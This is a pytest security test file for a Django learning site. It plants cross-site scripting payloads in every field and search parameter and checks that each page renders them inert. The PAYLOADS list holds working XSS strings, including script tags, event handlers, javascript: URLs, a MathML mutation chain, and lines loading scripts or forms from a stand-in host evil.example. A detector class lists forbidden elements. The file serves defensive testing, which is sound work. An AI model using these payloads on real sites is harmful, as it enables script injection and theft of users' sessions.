"""Hostile text in every field the site shows comes out inert, end to end."""

import re
from html.parser import HTMLParser

import pytest
from django.db import IntegrityError, transaction
from django.http import HttpResponse

from learnpaths.models import LearningPath, Note, PathFollow, PathStatus, Progress, Stage, Step
from resources.models import Concept, ConferenceEdition, Resource
from tests.security.test_headers import inline_code

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>*{display:none}</style>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=' javascript:alert(1)'>x</a>",
    "{{ request }}{% debug %}",
    "</textarea><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


def hostile_world(make, payload):
    short = payload[:60]  # Chinese names are at most 60 characters
    concept = make.concept(name=payload[:120], name_zh=short, summary=payload, body=payload)
    resource = make.resource(
        title=payload,
        title_zh=payload,
        authors=payload,
        venue=payload,
        description=payload,
        kind="conference",
        tags=[payload[:100]],
        concepts=[concept],
    )
    ConferenceEdition.objects.create(
        conference=resource, year=2030, location=payload, notes=payload
    )
    path = LearningPath.objects.create(
        title=payload,
        slug="hostile",
        summary=payload,
        description=payload,
        status=PathStatus.PUBLISHED,
        featured=True,
    )
    path.concepts.add(concept)
    stage = Stage.objects.create(path=path, position=1, title=payload, goal=payload)
    Step.objects.create(stage=stage, position=1, resource=resource, note=payload)
    return concept, resource, path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_in_every_field_comes_out_inert(client, make, payload):
    concept, resource, path = hostile_world(make, payload)
    learner = make.user()
    Progress.objects.create(user=learner, resource=resource, status="in_progress")
    PathFollow.objects.create(user=learner, path=path)
    Note.objects.create(user=learner, resource=resource, body=payload)
    client.force_login(learner)
    tag = resource.tags.get()
    pages = [
        "/en/",
        "/en/concepts/",
        concept.get_absolute_url(),
        "/en/resources/",
        resource.get_absolute_url(),
        tag.get_absolute_url(),
        "/en/paths/",
        path.get_absolute_url(),
        "/en/me/",
        "/en/me/notes/",
        f"/en/resources/{resource.slug}/note/",
    ]
    searches = [payload, payload.replace("<", " ")]
    for url in pages:
        check_page(client.get(url), url, payload)
    for query in searches:
        check_page(client.get("/en/search/", {"q": query}), "/en/search/", payload)
        check_page(
            client.get("/en/resources/", {"tag": query, "sort": query}), "/en/resources/", payload
        )
        check_page(
            client.get("/en/paths/", {"topic": query, "level": query}), "/en/paths/", payload
        )
        check_page(client.get("/en/me/notes/", {"q": query}), "/en/me/notes/", payload)


class Elements(HTMLParser):
    """Elements that run code, load things or change where the page points, beyond our own."""

    FORBIDDEN = {"iframe", "frame", "object", "embed", "applet", "base", "style", "link"}
    # Math is rendered to MathML; these MathML elements switch parsing modes or act on events.
    FORBIDDEN |= {"mglyph", "malignmark", "maction", "annotation-xml", "semantics"}

    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self.bodies = 0

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            self.found.append(f"<script src={attributes.get('src')}>")
        elif tag in self.FORBIDDEN and not (tag == "link" and self.known_link(attributes)):
            self.found.append(f"<{tag}>")
        elif tag == "meta" and "http-equiv" in attributes:
            self.found.append("<meta http-equiv>")
        elif tag == "form" and not (attributes.get("action") or "/").startswith("/"):
            self.found.append(f"<form action={attributes.get('action')}>")
        elif tag == "svg" and "activity-chart" not in (attributes.get("class") or ""):
            self.found.append("<svg>")
        self.bodies += tag == "body"

    @staticmethod
    def known_link(attributes):
        href = attributes.get("href") or ""
        if attributes.get("rel") == "alternate":  # this page in another language, on this site
            return re.match(r"http://testserver/(en|zh-hans)/", href) is not None
        return attributes.get("rel") in {"stylesheet", "icon"} and href.startswith("/static/")


def check_page(response, url, payload):
    assert response.status_code == 200, url
    page = response.content.decode()
    # Nothing a browser would run: no inline script, handler, style or javascript: URL ...
    assert inline_code(response) == [], (url, inline_code(response))
    # ... and no element beyond the site's own that loads, frames or redirects.
    elements = Elements()
    elements.feed(page)
    assert elements.found == [], (url, elements.found)
    assert elements.bodies == 1, url
    if "<" in payload:
        assert payload not in page, url  # escaped or sanitised, never verbatim


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "//evil.example"])
def test_the_database_refuses_links_that_are_not_http(make, url):
    with pytest.raises(IntegrityError), transaction.atomic():
        Resource.objects.create(title="x", slug="x", kind="book", url=url)


def test_the_database_refuses_edition_links_that_are_not_http(make):
    resource = make.resource(kind="conference")
    with pytest.raises(IntegrityError), transaction.atomic():
        ConferenceEdition.objects.create(conference=resource, year=2030, url="javascript:alert(1)")


def test_markdown_fields_keep_their_harmless_formatting(make):
    concept = make.concept(summary="**bold** and <script>alert(1)</script>")
    assert "<strong>bold</strong>" in concept.summary_html
    assert "<script" not in Concept.objects.get(pk=concept.pk).summary_html


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "<" in p])
def test_the_page_check_catches_html_printed_raw(payload):
    # Markdown payloads printed raw are only text; HTML ones must all be caught.
    page = f"<html><body><p>{payload}</p></body></html>"
    with pytest.raises(AssertionError):
        check_page(HttpResponse(page), "/en/", payload)


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "<" in p or "](" in p])
def test_a_note_sent_through_its_form_is_sanitised(client, make, payload):
    make.resource(slug="r")
    learner = make.user()
    client.force_login(learner)
    response = client.post("/en/resources/r/note/", {"body": payload}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    note = Note.objects.get(user=learner)
    assert note.body == payload  # the learner's text kept as written, for their form
    assert "<script" not in note.body_html.lower()
    if "<" in payload:  # the learner's Markdown is shown as text in their form's textarea
        assert payload not in response.content.decode()
    check_page(client.get("/en/resources/r/"), "/en/resources/r/", payload)
    check_page(client.get("/en/me/notes/"), "/en/me/notes/", payload)
